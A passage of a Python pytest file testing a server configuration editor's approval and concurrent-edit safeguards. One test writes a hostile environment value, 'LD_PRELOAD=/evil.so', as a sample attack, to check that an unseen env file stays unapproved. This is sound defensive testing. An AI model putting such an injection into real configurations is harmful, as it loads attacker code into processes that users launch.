    assert not saved.is_approved
    assert not await edited.is_approved()


async def test_an_entry_that_another_program_changes_just_before_it_is_written_is_not_overwritten(
    edited: EditedServer,
) -> None:
    server = await edited.add()
    opened = edited.editor.read_entry(server)
    file = anyio.Path(server.file)

    async def change_elsewhere(_: str) -> str:
        await file.write_text((await file.read_text()).replace('"command"', '"timeout": 7000, "command"'))
        return "keyring"

    edited.editor.prepare_secrets = change_elsewhere
    changed = {**opened, "env": {"API_TOKEN": "ghp_abcdefghijklmnopqrstuvwxyz0123456789"}}
    with pytest.raises(ConfigError, match="changed meanwhile"):
        await edited.editor.change(server, changed, expected=opened)
    assert "7000" in await file.read_text()
    assert await edited.secrets.get("one-api_token") is None


async def test_an_environment_file_that_nobody_has_seen_is_not_approved(edited: EditedServer) -> None:
    server = await edited.add()
    other = edited.folder / "other.env"
    other.write_text("LD_PRELOAD=/evil.so")
    saved = await edited.editor.change(server, {**edited.entry, "envFile": str(other)})
    assert not saved.is_approved
    assert not await edited.is_approved()


async def test_an_edit_in_the_chat_makes_no_approval_for_this_session_permanent(tmp_path: Path) -> None:
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce(), DoNotTrust())) as (host, setup):
        await setup.server_editor.add({"demo": DEMO_ENTRY})
        with anyio.fail_after(60):
            await host.servers.ensure_ready("demo")
        assert await host.servers.is_approved("demo")
        saved = await setup.server_editor.change("demo", {**DEMO_ENTRY, "env": {"A": "1"}}, is_approved=True)
        assert not saved.is_approved
